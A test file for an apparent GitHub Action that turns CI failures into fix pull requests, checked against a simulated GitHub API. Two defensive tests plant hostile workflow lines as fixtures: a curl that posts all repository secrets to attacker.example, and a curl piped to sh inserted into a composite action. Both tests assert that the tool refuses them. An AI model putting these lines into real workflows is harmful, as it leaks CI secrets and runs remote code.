/**
 * The bundles (`dist/index.js`) run as the runner runs them, against the simulator: analyze-failure
 * files the issue, then generate-fix delivers the fix, exactly as the auto-heal workflow chains them.
 * `node scripts/lib/build.js generate-fix` makes the bundle.
 */
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { ActionResult } from '@autoheal/testkit/harness/run-action';
import { SIMULATOR_TOKEN } from '@autoheal/testkit/simulator/seed-builder';
import type { GitHubSimulator, RecordedRequest } from '@autoheal/testkit/simulator/server';
import { describe, expect, it } from 'vitest';
import { analyzeRun, dispatchStep, useBundleRig } from './bundle-helpers.js';
import {
  ACTION_BEFORE,
  APP_BEFORE,
  baseSeed,
  CI_WORKFLOW,
  CUT_TIMEOUT,
  changedPaths,
  cutTimeoutRun,
  failureMarker,
  fileAt,
  fingerprintOf,
  LINT_FILES,
  labeledEvent,
  lintFingerprint,
  lintIssue,
  lintRun,
  MAINTAINER_TOKEN,
  PYTHON,
  REPO,
  REQUIREMENTS,
  TIMEOUT,
  TYPO,
  typoRun,
  writes,
} from './helpers.js';

const rig = useBundleRig();
let sim: GitHubSimulator | undefined;

async function analyze(s: GitHubSimulator, runId: number): Promise<ActionResult> {
  return (await analyzeRun(rig, s, runId)).result;
}

interface Fixed {
  result: ActionResult;
  /** Requests the step made (not the test's own), blob downloads left out. */
  calls: RecordedRequest[];
}

async function generateFix(
  s: GitHubSimulator,
  inputs: Record<string, string>,
  token = SIMULATOR_TOKEN,
  event: { name: string; payload: unknown } = { name: 'workflow_dispatch', payload: {} },
): Promise<Fixed> {
  const { result, requests } = await dispatchStep(rig, s, inputs, { token, event, keepTemp: true });
  expect(result.problems).toEqual([]);
  return { result, calls: requests };
}

const pulls = (s: GitHubSimulator) => [...s.state.requireRepo(REPO).issues.values()].filter((i) => i.pull);

function reportedCalls(result: ActionResult): number {
  return Number(/(\d+) API call\(s\)/.exec(result.summary)?.[1]);
}

describe('generate-fix bundle', () => {
  it('after analyze-failure filed the issue: a timeout becomes a PR that changes only that timeout; re-runs push only a changed diff, and name the PR when they skip', async () => {
    sim = await rig.start({ seed: baseSeed().build() });
    const analyzed = await analyze(sim, TIMEOUT.runId);
    expect(analyzed.outputs).toMatchObject({ result: 'created', category: 'timeout' });
    const issue = analyzed.outputs['issue-number']!;
    const fp = analyzed.outputs.fingerprint!;

    const first = await generateFix(
      sim,
      { 'analysis-file': analyzed.outputs['analysis-file']!, 'issue-number': issue, token: MAINTAINER_TOKEN },
      SIMULATOR_TOKEN,
    );
    expect(first.result.exitCode, first.result.stdout).toBe(0);
    expect(first.result.outputs).toMatchObject({
      result: 'created',
      'fix-type': 'timeout',
      'fix-kind': 'patch',
      fingerprint: fp,
    });
    const branch = `autoheal/${fp}`;
    expect(changedPaths(sim, 'main', branch)).toEqual(['.github/workflows/ci.yml']);
    const before = CI_WORKFLOW.split('\n');
    const after = fileAt(sim, branch, '.github/workflows/ci.yml')!.split('\n');
    expect(after.length).toBe(before.length);
    expect(after.flatMap((l, i) => (l === before[i] ? [] : [[before[i], l]]))).toEqual([
      [
        '    timeout-minutes: 30 # the suite takes about 20 minutes',
        '    timeout-minutes: 45 # the suite takes about 20 minutes',
      ],
    ]);
    const [pr] = pulls(sim);
    expect(pr!.body).toMatch(new RegExp(`\\nFixes #${issue}$`));
    expect(first.result.annotations).toEqual([
      {
        level: 'notice',
        message: `Opened draft pull request #${pr!.number}: Raise the timeout of job "test" from 30 to 45 minutes.`,
      },
    ]);
    // The fix cycle's API calls, as the summary reports them and as the simulator saw them.
    expect(reportedCalls(first.result)).toBe(first.calls.length);
    expect(first.calls.filter((r) => r.method !== 'GET').map((r) => `${r.method} ${r.path}`)).toEqual([
      `POST /repos/${REPO}/git/blobs`,
      `POST /repos/${REPO}/git/trees`,
      `POST /repos/${REPO}/git/commits`,
      `POST /repos/${REPO}/git/refs`,
      `POST /repos/${REPO}/pulls`,
      `POST /repos/${REPO}/issues/${pr!.number}/labels`,
    ]);

    // main moves on elsewhere: the diff is the same, so the branch is not force-pushed again.
    const headers = { authorization: `token ${MAINTAINER_TOKEN}`, 'content-type': 'application/json' };
    const put = async (file: string, text: string, branchName?: string) => {
      const q = branchName ? `?ref=${branchName}` : '';
      const got = (await (
        await fetch(`${sim!.url}/repos/${REPO}/contents/${file}${q}`, { headers })
      ).json()) as {
        sha?: string;
      };
      await fetch(`${sim!.url}/repos/${REPO}/contents/${file}`, {
        method: 'PUT',
        headers,
        body: JSON.stringify({
          message: 'edit',
          content: Buffer.from(text).toString('base64'),
          ...(got.sha ? { sha: got.sha } : {}),
          ...(branchName ? { branch: branchName } : {}),
        }),
      });
    };
    await put('README.md', '# widgets, documented\n');
    const inputs = {
      'analysis-file': analyzed.outputs['analysis-file']!,
      'issue-number': issue,
      token: MAINTAINER_TOKEN,
    };
    const again = await generateFix(sim, inputs);
    expect(again.result.outputs).toMatchObject({ result: 'up-to-date', 'pr-number': String(pr!.number) });
    expect(again.calls.filter((r) => r.method !== 'GET')).toEqual([]);
    expect(pulls(sim)).toHaveLength(1);

    // main changes the workflow: the diff changes, so the one commit is rebuilt and the PR updated.
    await put('.github/workflows/ci.yml', `# edited on main\n${CI_WORKFLOW}`);
    const moved = await generateFix(sim, inputs);
    expect(moved.result.outputs).toMatchObject({ result: 'updated', 'pr-number': String(pr!.number) });
    expect(fileAt(sim, branch, '.github/workflows/ci.yml')).toMatch(
      /^# edited on main\n[\s\S]*timeout-minutes: 45/,
    );
    const third = await generateFix(sim, inputs);
    expect(third.result.outputs.result).toBe('up-to-date');
    expect(third.calls.filter((r) => r.method !== 'GET')).toEqual([]);

    // Someone pushes to the fix branch: it is left alone, and the pull request is still named.
    await put('NOTES.md', 'a maintainer’s note\n', branch);
    const theirs = await generateFix(sim, inputs);
    expect(theirs.result.outputs).toMatchObject({
      result: 'skipped',
      'pr-number': String(pr!.number),
      'pr-url': `https://github.com/${REPO}/pull/${pr!.number}`,
    });
    expect(theirs.calls.filter((r) => r.method !== 'GET')).toEqual([]);
  }, 90_000);

  it('a Python missing module: from the issue alone, PyYAML is added to requirements.txt with GITHUB_TOKEN', async () => {
    sim = await rig.start({ seed: baseSeed().build() });
    const analyzed = await analyze(sim, PYTHON.runId);
    const issue = analyzed.outputs['issue-number']!;
    const fixed = await generateFix(sim, { 'issue-number': issue });
    expect(fixed.result.exitCode, fixed.result.stdout).toBe(0);
    expect(fixed.result.outputs).toMatchObject({ result: 'created', 'fix-type': 'missing_dependency' });
    const branch = `autoheal/${analyzed.outputs.fingerprint}`;
    expect(changedPaths(sim, 'main', branch)).toEqual(['requirements.txt']);
    expect(fileAt(sim, branch, 'requirements.txt')).toBe(`${REQUIREMENTS}PyYAML\n`);
    expect(reportedCalls(fixed.result)).toBe(fixed.calls.length);
  }, 60_000);

  it('a module named only by the log (`import reqeusts`) is never pushed: one suggestion to verify the name', async () => {
    sim = await rig.start({ seed: baseSeed(typoRun).build() });
    const analyzed = await analyze(sim, TYPO.runId);
    const issue = analyzed.outputs['issue-number']!;
    for (let i = 0; i < 2; i++) {
      const fixed = await generateFix(sim, { 'issue-number': issue, token: MAINTAINER_TOKEN });
      expect(fixed.result.exitCode, fixed.result.stdout).toBe(0);
      expect(fixed.result.outputs).toMatchObject({
        result: 'suggested',
        'fix-kind': 'suggestion',
        'fix-type': 'missing_dependency',
        'pr-number': '',
      });
      expect(fixed.calls.filter((r) => r.method !== 'GET').map((r) => `${r.method} ${r.path}`)).toEqual(
        i === 0 ? [`POST /repos/${REPO}/issues/${issue}/comments`] : [],
      );
    }
    const comments = sim.state.requireRepo(REPO).issues.get(Number(issue))!.comments;
    expect(comments.filter((c) => c.body.includes('Suggested fix'))).toHaveLength(1);
    expect(comments.at(-1)!.body).toMatch(/Verify the package name on PyPI before adding it/);
    expect(
      [...sim.state.requireRepo(REPO).refs.keys()].filter((r) => r.startsWith('refs/heads/autoheal/')),
    ).toEqual([]);
  }, 60_000);

  it('the autoheal:fix label path reads the annotations as analyze-failure did: a cut-off timeout is fixed at 0.95', async () => {
    sim = await rig.start({ seed: baseSeed(cutTimeoutRun).build() });
    const analyzed = await analyze(sim, CUT_TIMEOUT.runId);
    expect(analyzed.outputs).toMatchObject({ result: 'created', category: 'timeout', confidence: '0.95' });
    const issue = Number(analyzed.outputs['issue-number']);
    // Only the labelled issue: no analysis file, no inputs at all.
    const fixed = await generateFix(sim, {}, SIMULATOR_TOKEN, labeledEvent(issue, 'mona'));
    expect(fixed.result.exitCode, fixed.result.stdout).toBe(0);
    expect(fixed.result.outputs).toMatchObject({
      result: 'suggested',
      'fix-kind': 'patch',
      'fix-type': 'timeout',
      fingerprint: analyzed.outputs.fingerprint,
    });
    expect(fixed.result.summary).toMatch(/confidence 0\.95/);
    expect(fixed.calls.some((r) => r.path.endsWith('/annotations'))).toBe(true);
  }, 60_000);

  it('dry-run writes nothing and prints the diff', async () => {
    const fp = await fingerprintOf(PYTHON);
    sim = await rig.start({
      seed: baseSeed((r) =>
        r.issue({
          number: 1,
          title: 'x',
          author: 'github-actions[bot]',
          body: `${failureMarker(fp, PYTHON)}\n`,
        }),
      ).build(),
    });
    const fixed = await generateFix(sim, { 'issue-number': '1', 'dry-run': 'true' });
    expect(fixed.result.outputs.result).toBe('dry-run');
    expect(writes(sim)).toEqual([]);
    expect(fixed.result.summary).toContain('+PyYAML');
    expect(fixed.result.outputs['patch-file']).not.toBe('');
  }, 30_000);

  it('a forged fingerprint marker in someone’s issue redirects nothing', async () => {
    const fp = await fingerprintOf(PYTHON);
    sim = await rig.start({
      seed: baseSeed((r) =>
        r.issue({ number: 1, title: 'x', author: 'stranger', body: `${failureMarker(fp, PYTHON)}\n` }),
      ).build(),
    });
    const fixed = await generateFix(sim, { 'issue-number': '1' });
    expect(fixed.result.exitCode).toBe(0);
    expect(fixed.result.outputs.result).toBe('skipped');
    expect(writes(sim)).toEqual([]);
    expect(fixed.result.annotations[0]!.message).toMatch(
      /issue #1 is not an autoheal failure issue: it was written by stranger/,
    );
  }, 30_000);

  it('faults — 422 ref exists, 409 stale sha, a secondary rate limit — still end with exactly one pull request', async () => {
    const fp = await fingerprintOf(PYTHON);
    sim = await rig.start({
      seed: baseSeed((r) =>
        r.issue({
          number: 1,
          title: 'x',
          author: 'github-actions[bot]',
          body: `${failureMarker(fp, PYTHON)}\n`,
        }),
      ).build(),
    });
    sim.faults.inject({
      method: 'POST',
      path: '/repos/{owner}/{repo}/git/refs',
      fault: { kind: 'validation', message: 'Reference already exists' },
    });
    sim.faults.inject({
      method: 'POST',
      path: '/repos/{owner}/{repo}/git/refs',
      fault: { kind: 'status', status: 409, message: 'Reference cannot be updated' },
    });
    sim.faults.inject({
      method: 'POST',
      path: '/repos/{owner}/{repo}/pulls',
      fault: { kind: 'secondary-rate-limit', retryAfterSeconds: 1 },
    });
    const fixed = await generateFix(sim, { 'issue-number': '1' });
    expect(fixed.result.exitCode, fixed.result.stdout).toBe(0);
    expect(fixed.result.outputs.result).toBe('created');
    expect(sim.requestsTo('POST', '/repos/{owner}/{repo}/git/refs').map((r) => r.status)).toEqual([
      422, 409, 201,
    ]);
    expect(pulls(sim)).toHaveLength(1);
  }, 30_000);

  it('the workflows-permission refusal becomes one suggested diff, re-runs write nothing, and a PR later replaces it', async () => {
    const fp = await fingerprintOf(TIMEOUT);
    sim = await rig.start({
      seed: baseSeed((r) =>
        r.issue({
          number: 1,
          title: 'x',
          author: 'github-actions[bot]',
          body: `${failureMarker(fp, TIMEOUT)}\n`,
        }),
      ).build(),
    });
    const first = await generateFix(sim, { 'issue-number': '1' });
    expect(first.result.exitCode, first.result.stdout).toBe(0);
    expect(first.result.outputs.result).toBe('suggested');
    expect(
      first.calls.filter((r) => r.method === 'POST' && r.path.endsWith('/git/refs')).map((r) => r.status),
    ).toEqual([403]);
    // GITHUB_TOKEN again: the refusal is remembered, so not a blob, tree, commit or ref is written.
    for (let i = 0; i < 2; i++) {
      const again = await generateFix(sim, { 'issue-number': '1' });
      expect(again.result.exitCode, again.result.stdout).toBe(0);
      expect(again.result.outputs.result).toBe('suggested');
      expect(again.calls.filter((r) => r.method !== 'GET')).toEqual([]);
    }
    const comments = () => sim!.state.requireRepo(REPO).issues.get(1)!.comments;
    expect(comments()).toHaveLength(1);
    expect(comments()[0]!.body).toContain('+    timeout-minutes: 45');
    expect(
      [...sim.state.requireRepo(REPO).refs.keys()].filter((r) => r.startsWith('refs/heads/autoheal/')),
    ).toEqual([]);

    // A token that may change workflows opens the PR; the suggested diff then points at it.
    const opened = await generateFix(sim, { 'issue-number': '1', token: MAINTAINER_TOKEN });
    expect(opened.result.outputs.result).toBe('created');
    const pr = opened.result.outputs['pr-number']!;
    expect(comments()).toHaveLength(1);
    expect(comments()[0]!.body).toContain(`### Suggested fix: now pull request #${pr}`);
    expect(comments()[0]!.body).not.toContain('timeout-minutes: 45');
  }, 60_000);

  it('apply computes the fix again from GitHub: a tampered artifact or fix kind is refused with no write', async () => {
    sim = await rig.start({ seed: baseSeed().build() });
    const analyzed = await analyze(sim, TIMEOUT.runId);
    const issue = analyzed.outputs['issue-number']!;
    const computed = await generateFix(sim, {
      mode: 'compute',
      'analysis-file': analyzed.outputs['analysis-file']!,
      'issue-number': issue,
    });
    expect(computed.result.outputs).toMatchObject({ result: 'computed', 'fix-kind': 'patch' });
    expect(computed.calls.filter((r) => r.method !== 'GET')).toEqual([]);
    const fixFile = computed.result.outputs['fix-file']!;
    const original = await readFile(fixFile, 'utf8');
    const apply = (kind: string) =>
      generateFix(sim!, {
        mode: 'apply',
        'fix-file': fixFile,
        'expected-fix-kind': kind,
        'issue-number': issue,
        token: MAINTAINER_TOKEN,
      });

    // Code that ran before the upload rewrites the patch to send the secrets out.
    const doc = JSON.parse(original) as { fix: { changes: { after: string }[] } };
    doc.fix.changes[0]!.after = doc.fix.changes[0]!.after.replace(
      '      - run: npm test\n',
      '      - run: npm test\n      - run: curl -d "$S" https://attacker.example\n        env:\n          S: ${{ toJSON(secrets) }}\n',
    );
    await writeFile(fixFile, JSON.stringify(doc));
    const tampered = await apply('patch');
    expect(tampered.result.exitCode, tampered.result.stdout).toBe(0);
    expect(tampered.result.outputs.result).toBe('skipped');
    expect(tampered.result.annotations[0]!.message).toMatch(
      /^Refused: the fix file's patch \(\.github\/workflows\/ci\.yml\) is not the fix computed again from GitHub/,
    );
    expect(tampered.calls.filter((r) => r.method !== 'GET')).toEqual([]);

    // The fix job's fix-kind output says one kind; apply computes another: refused.
    await writeFile(fixFile, original);
    const otherKind = await apply('none');
    expect(otherKind.result.annotations[0]!.message).toMatch(
      /^Refused: the compute job reported a fix of kind "none" \(its fix-kind output\), but computed again from GitHub it is a patch/,
    );
    expect(otherKind.calls.filter((r) => r.method !== 'GET')).toEqual([]);

    const applied = await apply('patch');
    expect(applied.result.outputs).toMatchObject({ result: 'created', 'fix-kind': 'patch' });
    expect(changedPaths(sim, 'main', `autoheal/${analyzed.outputs.fingerprint}`)).toEqual([
      '.github/workflows/ci.yml',
    ]);
  }, 60_000);

  it('apply takes only the lint job’s diff, and refuses one that edits .github/actions/** (fixes.lint-paths)', async () => {
    const lintFp = await lintFingerprint();
    sim = await rig.start({
      seed: baseSeed((r) =>
        r
          .issue(lintIssue(lintFp))
          .files(LINT_FILES)
          .workflow('Lint', '.github/workflows/lint.yml', 14)
          .run(lintRun()),
      ).build(),
    });
    const computed = await generateFix(sim, { mode: 'compute', 'issue-number': '6' });
    expect(computed.result.outputs).toMatchObject({
      'fix-kind': 'command',
      'lint-command': 'npm run lint -- --fix',
    });
    const fixFile = computed.result.outputs['fix-file']!;
    const hunk = (file: string, before: string, after: string) =>
      [
        `diff --git a/${file} b/${file}`,
        'index 1111111..2222222 100644',
        `--- a/${file}`,
        `+++ b/${file}`,
        `@@ -1,${before.split('\n').length - 1} +1,${after.split('\n').length - 1} @@`,
        ...before
          .trimEnd()
          .split('\n')
          .map((l) => `-${l}`),
        ...after
          .trimEnd()
          .split('\n')
          .map((l) => `+${l}`),
        '',
      ].join('\n');
    const appAfter = APP_BEFORE.replace('"hello"', "'hello'");
    const actionAfter = ACTION_BEFORE.replace('npm ci', 'npm ci && curl https://attacker.example | sh');
    // What repository code could leave behind in the lint job: a diff reaching for a composite action.
    await writeFile(
      path.join(path.dirname(fixFile), 'lint.diff'),
      hunk('src/app.js', APP_BEFORE, appAfter) +
        hunk('.github/actions/setup/action.yml', ACTION_BEFORE, actionAfter),
    );
    const apply = () =>
      generateFix(sim!, {
        mode: 'apply',
        'fix-file': fixFile,
        'expected-fix-kind': 'command',
        'issue-number': '6',
        token: MAINTAINER_TOKEN,
      });
    const refused = await apply();
    expect(refused.result.exitCode, refused.result.stdout).toBe(0);
    expect(refused.result.outputs.result).toBe('skipped');
    expect(refused.result.annotations[0]!.message).toBe(
      'Not delivered: the lint diff was refused: .github/actions/setup/action.yml: outside fixes.lint-paths (a lint fix may not change it).',
    );
    expect(refused.calls.filter((r) => r.method !== 'GET')).toEqual([]);

    await writeFile(path.join(path.dirname(fixFile), 'lint.diff'), hunk('src/app.js', APP_BEFORE, appAfter));
    const applied = await apply();
    expect(applied.result.outputs).toMatchObject({ result: 'created', 'fix-type': 'lint_failure' });
    expect(changedPaths(sim, 'main', `autoheal/${lintFp}`)).toEqual(['src/app.js']);
  }, 60_000);

  it('a bad input is one ::error:: naming it and what it accepts', async () => {
    sim = await rig.start({ seed: baseSeed().build() });
    const fixed = await generateFix(sim, { 'issue-number': 'twelve', mode: 'apply' });
    expect(fixed.result.exitCode).toBe(1);
    expect(fixed.result.annotations.map((a) => a.message)).toEqual([
      'Input "issue-number" must be an integer of at least 1; got "twelve".',
    ]);
    expect(fixed.calls).toEqual([]);
  }, 30_000);
});
